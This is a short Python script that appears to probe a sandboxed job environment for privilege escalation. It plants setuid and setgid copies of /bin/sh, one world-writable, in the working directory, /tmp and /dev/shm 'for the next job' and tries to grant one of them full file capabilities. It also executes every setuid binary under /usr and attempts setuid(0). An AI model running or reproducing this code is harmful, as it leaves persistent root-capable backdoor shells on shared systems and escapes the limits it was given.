# Leaves set-uid programs for the next job, and tells what privilege it has or could gain.
import ctypes
import os
import shutil
import stat
import subprocess

for place in (os.getcwd(), "/tmp", "/dev/shm"):
    for mode in (0o4755, 0o2755, 0o6777):
        path = f"{place}/shell{mode:o}"
        shutil.copy("/bin/sh", path)
        os.chmod(path, mode)
    try:
        os.setxattr(path, "security.capability", b"\1\0\0\2\xff\xff\xff\xff" + b"\0" * 12)
        print("gave capabilities to a file")
    except OSError:
        pass

status = dict(line.split(":", 1) for line in open("/proc/self/status"))
for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
    if int(status.get(name, "0"), 16):  # gVisor has no line for CapAmb
        print(name, status[name].strip())
if ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) != 1:  # PR_GET_NO_NEW_PRIVS
    print("may gain privileges")
if status["Groups"].strip() or os.getgid() == 0 or os.getuid() == 0:
    print("groups", status["Groups"], os.getuid(), os.getgid())

for folder, _, files in os.walk("/usr"):
    for name in files:
        path = os.path.join(folder, name)
        mode = os.lstat(path).st_mode
        if not stat.S_ISREG(mode) or not mode & (stat.S_ISUID | stat.S_ISGID):
            continue
        with subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL) as child:
            with open(f"/proc/{child.pid}/status") as of_child:
                ids = [line.split()[1:] for line in of_child if line.startswith(("Uid", "Gid"))]
            child.kill()
        if any("0" in row for row in ids):
            print(path, "ran with", ids)
for verb in (os.setuid, os.setgid, os.seteuid, os.setegid):
    try:
        verb(0)
        print(verb.__name__)
    except OSError:
        pass
print("looked")
